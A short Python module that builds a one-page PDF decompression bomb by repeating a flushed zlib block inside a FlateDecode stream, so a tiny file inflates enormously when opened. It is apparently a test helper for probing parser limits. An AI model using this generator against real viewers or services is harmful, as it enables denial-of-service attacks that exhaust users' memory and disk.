"""PDFs that are small on disk and large once they are opened."""

from __future__ import annotations

import zlib
from pathlib import Path


def bomb(path: Path, content: bytes, times: int) -> Path:
    """Make a PDF of one page that says the same so many times over, packed; and return it."""
    packer = zlib.compressobj(9)
    chunk = content * max(1, 1_000_000 // len(content))
    packed = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    # What is packed after a full flush can be repeated as it is; that the checksum is wrong harms nobody.
    stream = packed + packed[2:] * (times * len(content) // len(chunk)) + packer.flush()
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(stream), stream),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ]
    whole, places = b"%PDF-1.4\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(whole))
        whole += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer<</Size 6/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(whole)
    path.write_bytes(whole + b"xref\n0 6\n0000000000 65535 f \n" + table + end)
    return path
